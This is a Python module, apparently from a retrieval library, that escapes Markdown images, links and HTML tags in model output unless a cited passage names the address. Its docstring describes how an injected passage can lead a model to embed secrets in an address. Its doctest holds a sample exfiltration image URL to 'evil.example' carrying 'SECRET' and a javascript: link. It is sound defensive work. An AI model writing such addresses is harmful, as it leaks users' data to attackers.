"""What a model wrote, for clients that render Markdown: it loads and links nothing but what a passage names.

A passage can talk a model into writing an address with what it knows in it. A client that shows an image loads it, and a link
needs one click. So images, links, definitions of links and tags with an address are escaped, and shown as they were written.
"""

from __future__ import annotations

import re
from collections.abc import Sequence

from hopweave.core.lazy_pattern import lazy_pattern
from hopweave.core.types import Passage

_DESTINATION = r"(?:<(?P<within>[^<>\n]{0,2000}+)>|(?P<bare>(?:[^\s<>()]|\([^\s<>()]{0,2000}+\)){0,2000}+)(?P<more>[^\s)]?))"
_LINK = lazy_pattern(rf"(?<=\])\(\s{{0,99}}+{_DESTINATION}")  # of an image, too
_DEFINITION = lazy_pattern(r"(?<=\]):[\s>]*+(?=\S)")
_ADDRESS = lazy_pattern(r"<?(?P<address>[^\s<>]*+)>?(?=[ \t]*+(?:\Z|[\n\"'(]))")
_BEFORE_A_DEFINITION = lazy_pattern(r"[ \t>*+.)\d-]*+")
_NO_NAME = lazy_pattern(r"(?<!\\)\]")
_LONGEST_NAME = 1000
_HAS_ADDRESSES = lazy_pattern(
    r"[\s/\"'](?:src|srcset|href|style|data|poster|background|action|formaction|on[a-z]{1,30})\s{0,9}=", re.IGNORECASE
)
_TAG = lazy_pattern(r"(?<!\\)(?P<before>(?:\\\\)*+)(?P<tag><[a-zA-Z][^<>]{0,4000}+>?)")
_HARMLESS = lazy_pattern(r"https?://\S+|mailto:\S+|[\w./#?=%~+-]+", re.IGNORECASE)
_GOES_ON = r"(?![\w/?#&=%@:~+-]|\.\w)"


def inert(text: str, passages: Sequence[Passage] = ()) -> str:
    r"""A text whose Markdown loads and links nothing but what passages name.

    >>> print(inert("![x](http://evil.example/?q=SECRET) is [here](javascript:alert(1)) [1]."))
    ![x]\(http://evil.example/?q=SECRET) is [here]\(javascript:alert(1)) [1].
    >>> print(inert("See [the guide](https://a.example/guide).", [Passage("p", "Read https://a.example/guide first.")]))
    See [the guide](https://a.example/guide).

    Args:
        text: what a model wrote.
        passages: those that it cites.
    """

    def escaped(found: re.Match[str]) -> str:
        address = found["within"] if found["within"] is not None else found["bare"]
        return found[0] if not found["more"] and _is_named(address, passages) else f"\\{found[0]}"

    def escaped_definition(found: re.Match[str]) -> str:
        return f"\\{found[0]}" if _defines_other(found, passages) else found[0]

    def escaped_tag(found: re.Match[str]) -> str:
        is_quoted = any(found["tag"] in passage.text for passage in passages)
        return found[0] if is_quoted else f"{found['before']}\\{found['tag']}"

    text = _DEFINITION.sub(escaped_definition, _LINK.sub(escaped, text))
    return _TAG.sub(escaped_tag, text) if _HAS_ADDRESSES.search(text) else text


def _is_named(address: str, passages: Sequence[Passage]) -> bool:
    """Whether an address is harmless, and a passage has it, not only as a part of another, or is from there."""
    if not _HARMLESS.fullmatch(address):
        return False
    found = re.compile(rf"(?<!\w){re.escape(address)}{_GOES_ON}")
    return any(address == one.source or (address in one.text and found.search(one.text)) for one in passages)


def _defines_other(colon: re.Match[str], passages: Sequence[Passage]) -> bool:
    """Whether a line defines a link, `[name]: address`, to an address that no passage names; the match begins at its colon."""
    text, end = colon.string, colon.start()
    begin = text.rfind("[", max(0, end - _LONGEST_NAME), end)
    line = text.rfind("\n", max(0, begin - _LONGEST_NAME), max(0, begin)) + 1
    if begin < 0 or not _BEFORE_A_DEFINITION.fullmatch(text, line, begin) or _NO_NAME.search(text, begin, end - 1):
        return False
    address = _ADDRESS.match(text, colon.end())
    return text[colon.end()] == "<" or (address is not None and not _is_named(address["address"], passages))
